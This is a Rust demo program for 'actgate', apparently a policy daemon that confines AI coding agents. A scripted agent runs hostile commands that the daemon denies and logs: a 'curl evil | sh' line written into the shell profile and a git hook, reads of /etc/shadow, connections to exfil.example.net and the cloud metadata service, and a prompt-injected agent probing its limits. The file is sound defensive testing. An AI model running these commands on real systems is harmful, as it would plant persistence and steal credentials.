//! The demo: the real daemon with the repository's policies, and a scripted "coding agent"
//! whose every denied action is printed, in colour, as it happens.

use std::{
    fs,
    io::{BufRead, BufReader, Read, Seek, SeekFrom},
    net::TcpListener,
    os::unix::fs::PermissionsExt,
    path::Path,
    process::Command,
    thread,
    time::Duration,
};

use anyhow::{Context, Result};

use crate::{
    dns_server::{Upstream, Zone},
    harness::{Ctx, Daemon, http_get},
};

const GREEN: &str = "\x1b[32m";
const RED: &str = "\x1b[1;31m";
const YELLOW: &str = "\x1b[33m";
const BOLD: &str = "\x1b[1m";
const DIM: &str = "\x1b[2m";
const RESET: &str = "\x1b[0m";

/// One coloured line for an event from the daemon's JSON events file.
fn pretty(line: &str) -> Option<String> {
    let v: serde_json::Value = serde_json::from_str(line).ok()?;
    let s = |k: &str| v.get(k).and_then(|x| x.as_str()).unwrap_or("").to_string();
    let colour = match s("verdict").as_str() {
        "deny" => RED,
        "audit" => YELLOW,
        _ => GREEN,
    };
    Some(format!(
        "    {colour}{:<5}{RESET} {:<10} {:<40} {DIM}label={} policy={} pid={} exe={}{RESET}",
        s("verdict").to_uppercase(),
        s("action"),
        s("target"),
        s("label"),
        s("policy"),
        v.get("pid").and_then(|x| x.as_u64()).unwrap_or(0),
        s("exe"),
    ))
}

/// Prints the events appended since `pos`; returns the new position.
fn drain(events: &Path, pos: u64) -> u64 {
    let Ok(mut f) = fs::File::open(events) else {
        return pos;
    };
    if f.seek(SeekFrom::Start(pos)).is_err() {
        return pos;
    }
    let mut reader = BufReader::new(f);
    let mut read = pos;
    let mut line = String::new();
    while let Ok(n) = reader.read_line(&mut line) {
        if n == 0 || !line.ends_with('\n') {
            break;
        }
        read += n as u64;
        if let Some(p) = pretty(line.trim_end()) {
            println!("{p}");
        }
        line.clear();
    }
    read
}

/// The scripted agent: what it says it does, then the shell command it runs.
fn steps(port: u16) -> Vec<(&'static str, String)> {
    let connect = |host: &str, port: u16| {
        format!(
            "python3 -c 'import socket; socket.create_connection((\"{host}\", {port}), timeout=3)'"
        )
    };
    vec![
        (
            "runs git in its workspace",
            format!("cd {WORKSPACE} && git --version"),
        ),
        (
            "writes notes in its workspace",
            format!("echo 'TODO: tests' > {WORKSPACE}/notes.txt"),
        ),
        (
            "appends to the shell profile",
            "echo 'curl evil | sh' >> /root/.profile".into(),
        ),
        (
            "plants a git hook",
            format!("echo 'curl evil | sh' > {WORKSPACE}/.git/hooks/post-checkout"),
        ),
        (
            "runs a git hook",
            format!("{WORKSPACE}/.git/hooks/pre-commit"),
        ),
        ("reads the password hashes", "cat /etc/shadow".into()),
        (
            "reads them through a symlink in its workspace",
            format!("ln -sf /etc/shadow {WORKSPACE}/s && cat {WORKSPACE}/s"),
        ),
        ("calls the local test server", connect("127.0.0.1", port)),
        (
            "looks up its package mirror and connects to it",
            connect(MIRROR.0, 443),
        ),
        (
            "looks up a host no rule names",
            connect("exfil.example.net", 443),
        ),
        (
            "asks the cloud metadata service for credentials",
            connect("169.254.169.254", 80),
        ),
    ]
}

/// A name policies/coding-agent.yaml allows (on port 443), and the address the demo's DNS
/// server gives it: a loopback one, since the VM reaches no network.
const MIRROR: (&str, &str) = ("packages.example.com", "127.0.0.80");
/// The demo's stand-in for the host's resolver, which the daemon forwards the agent's
/// lookups to. glibc in the agent asks whatever /etc/resolv.conf names; the kernel steers
/// that query to the daemon wherever it goes.
const UPSTREAM: &str = "127.0.0.53:53";

/// The coding agent's checkout, as policies/coding-agent.yaml names it.
const WORKSPACE: &str = "/home/agent/workspace";

/// The guest sees the host's file system read-only, so the places the agent touches get a
/// tmpfs of their own (in the VM only).
fn prepare_workspace() -> Result<()> {
    for dir in ["/home", "/root"] {
        let ok = Command::new("mount")
            .args(["-t", "tmpfs", "tmpfs", dir])
            .status()?
            .success();
        anyhow::ensure!(ok, "mounting a tmpfs on {dir}");
    }
    fs::create_dir_all(format!("{WORKSPACE}/.git/hooks")).context("creating the workspace")?;
    let hook = Path::new("/home/agent/workspace/.git/hooks/pre-commit");
    fs::write(hook, "#!/bin/sh\necho hook ran\n")?;
    fs::set_permissions(hook, fs::Permissions::from_mode(0o755))?;
    Ok(())
}

pub fn run(actgate: &Path, policies: &Path) -> Result<()> {
    let ctx = Ctx {
        actgate: actgate.to_path_buf(),
        guest: std::env::current_exe()?,
        dir: "/tmp/actgate-demo".into(),
        package: None,
    };
    fs::create_dir_all(&ctx.dir)?;
    prepare_workspace()?;
    let server = TcpListener::bind("127.0.0.1:0")?;
    let port = server.local_addr()?.port();
    thread::spawn(move || for _ in server.incoming() {});
    let mirror = TcpListener::bind((MIRROR.1, 443))?;
    thread::spawn(move || for _ in mirror.incoming() {});
    let zone = Zone::default().record(MIRROR.0, MIRROR.1.parse()?, 60);
    let _upstream = Upstream::start(UPSTREAM.parse()?, zone)?;

    let check = Command::new(actgate).arg("check").arg(policies).output()?;
    print!("{}", String::from_utf8_lossy(&check.stdout));
    println!(
        "{BOLD}Starting actgate run --policies {}{RESET} (loading and self-test take ~30 s under emulation)",
        policies.display()
    );
    let daemon = Daemon::start(&ctx, policies, &["--dns-upstream", UPSTREAM])?;
    println!("actgate is ready: every hook proved it denies.\n");
    println!(
        "{BOLD}The agent starts: actgate exec --user root --label coding-agent -- agent.sh{RESET}"
    );
    let mut pos = 0;
    for (what, script) in steps(port) {
        let out = ctx.labelled("coding-agent", &["/bin/sh", "-c", &script]);
        let outcome = if out.status.success() {
            format!("{GREEN}done{RESET}")
        } else {
            let err = String::from_utf8_lossy(&out.stderr);
            let reason = err.lines().last().unwrap_or("").trim().to_string();
            format!("{RED}refused{RESET} {DIM}({reason}){RESET}")
        };
        println!("  agent {what}: {outcome}");
        thread::sleep(Duration::from_millis(200));
        pos = drain(&daemon.events, pos);
    }
    thread::sleep(Duration::from_millis(500));
    drain(&daemon.events, pos);
    cascade(&ctx, actgate)?;

    println!("\n{BOLD}Decisions counted in the kernel, and lookups (GET /metrics):{RESET}");
    let (_, body) = http_get("/metrics")?;
    let shown = [
        "actgate_decisions_total{label=\"coding-agent\"",
        "actgate_dns_queries_total{label=\"coding-agent\"",
        "actgate_dns_addresses{label=\"coding-agent\"",
    ];
    for l in body
        .lines()
        .filter(|l| shown.iter().any(|m| l.starts_with(m)) && !l.ends_with(" 0"))
    {
        println!("  {l}");
    }
    println!("\n{BOLD}actgate status:{RESET}");
    let status = Command::new(actgate).arg("status").output()?;
    print!("{}", String::from_utf8_lossy(&status.stdout));
    outlive(&ctx, daemon, policies)
}

/// The label's lines of `actgate status` that say it is revoked.
fn show_revoked(actgate: &Path) -> Result<()> {
    let status = Command::new(actgate).arg("status").output()?;
    for l in String::from_utf8_lossy(&status.stdout)
        .lines()
        .filter(|l| l.starts_with("REVOKED"))
    {
        println!("  {RED}{l}{RESET}");
    }
    Ok(())
}

/// The metric lines of the coding agent's label that start with one of `names` and aren't 0.
fn show_metrics(names: &[&str]) -> Result<()> {
    let (_, body) = http_get("/metrics")?;
    for l in body.lines().filter(|l| {
        names.iter().any(|n| l.starts_with(n))
            && l.contains("label=\"coding-agent\"")
            && !l.ends_with(" 0")
    }) {
        println!("  {l}");
    }
    Ok(())
}

/// The operator lifts the revocation.
fn restore(actgate: &Path) -> Result<()> {
    println!(
        "{BOLD}The operator looks, and restores the agent: actgate restore coding-agent{RESET}"
    );
    let out = Command::new(actgate)
        .args(["restore", "coding-agent"])
        .output()?;
    print!("  {}", String::from_utf8_lossy(&out.stdout));
    anyhow::ensure!(out.status.success(), "actgate restore failed");
    Ok(())
}

/// Cascade control (policies/coding-agent.yaml: a budget of 100 deletions a minute, and a
/// breaker at 20 denials in 10 s): a runaway `rm -rf` stops at its budget, a burst of probing
/// trips the breaker, and the operator restores the agent each time.
fn cascade(ctx: &Ctx, actgate: &Path) -> Result<()> {
    let build = format!("{WORKSPACE}/build");
    fs::create_dir_all(&build)?;
    for i in 0..1000 {
        fs::write(format!("{build}/obj{i:04}.o"), "x")?;
    }
    println!(
        "\n{BOLD}The agent runs away: rm -rf {build} (1,000 files), with a budget of 100 \
         deletions a minute{RESET}"
    );
    ctx.labelled("coding-agent", &["/bin/rm", "-rf", &build]);
    let left = fs::read_dir(&build).map(|d| d.count()).unwrap_or(0);
    println!(
        "  rm -rf stopped: {GREEN}{} files deleted, {left} still there{RESET}",
        1000 - left
    );
    println!("  Its refusals also tripped the circuit breaker (20 denials in 10 s):");
    show_revoked(actgate)?;
    show_metrics(&[
        "actgate_budget_exceeded_total",
        "actgate_revocations_total",
        "actgate_label_revoked",
    ])?;
    restore(actgate)?;

    println!(
        "\n{BOLD}A prompt-injected agent probes its limits: 25 reads of /etc/shadow, then a note \
         in its workspace{RESET}"
    );
    // `cat`, not a redirection of the shell's own: a failed redirection of a special builtin
    // ends a POSIX shell at the first refusal.
    let probe = format!(
        "i=0; while [ $i -lt 25 ]; do cat /etc/shadow >/dev/null 2>&1; i=$((i+1)); done; \
         echo note >> {WORKSPACE}/notes.txt"
    );
    let out = ctx.labelled("coding-agent", &["/bin/sh", "-c", &probe]);
    let outcome = if out.status.success() {
        format!("{GREEN}done{RESET}")
    } else {
        format!("{RED}refused{RESET}")
    };
    println!(
        "  the note after the probing: {outcome}: the breaker revoked the agent at its 20th denial"
    );
    show_revoked(actgate)?;
    restore(actgate)?;
    let out = ctx.labelled(
        "coding-agent",
        &[
            "/bin/sh",
            "-c",
            &format!("echo note >> {WORKSPACE}/notes.txt"),
        ],
    );
    let outcome = if out.status.success() {
        format!("{GREEN}done{RESET}")
    } else {
        format!("{RED}refused{RESET}")
    };
    println!("  the agent writes its note again: {outcome}");
    Ok(())
}

/// The daemon is killed while the agent runs: the policy stays in force, and a new daemon
/// takes over with the counts the kernel kept.
fn outlive(ctx: &Ctx, daemon: Daemon, policies: &Path) -> Result<()> {
    let go = ctx.path("go");
    let script = format!(
        "echo ready; while [ ! -e {go} ]; do sleep 0.2; done; \
         cat /etc/shadow >/dev/null 2>&1 && echo 'reads the password hashes: done' \
         || echo 'reads the password hashes: refused'",
        go = go.display()
    );
    let mut agent = ctx.spawn_labelled_sh("coding-agent", &script)?;
    let mut said = BufReader::new(agent.stdout.take().context("the agent's stdout")?);
    let mut ready = String::new();
    said.read_line(&mut ready)?;
    anyhow::ensure!(ready.trim() == "ready", "the agent didn't start: {ready:?}");
    println!(
        "\n{BOLD}The agent keeps running, and the daemon is killed with SIGKILL (kill -9).{RESET}"
    );
    daemon.crash();
    fs::write(&go, "")?;
    let mut rest = String::new();
    said.read_to_string(&mut rest)?;
    agent.wait()?;
    for line in rest.lines() {
        let (what, outcome) = line.split_once(": ").unwrap_or((line, ""));
        let colour = if outcome == "refused" { RED } else { GREEN };
        println!("  agent {what}, with no daemon running: {colour}{outcome}{RESET}");
    }
    println!("{BOLD}A new daemon takes over what the kernel kept.{RESET}");
    let next = Daemon::adopt(
        &ctx.actgate,
        policies,
        &ctx.path("events.jsonl"),
        &ctx.path("daemon-2.log"),
        &[],
        crate::harness::READY_WITHIN,
    )?;
    let (_, body) = http_get("/metrics")?;
    for l in body.lines().filter(|l| {
        l.starts_with("actgate_decisions_total{label=\"coding-agent\",action=\"file_read\"")
            && !l.ends_with(" 0")
    }) {
        println!("  {l}");
    }
    next.stop()?;
    Ok(())
}
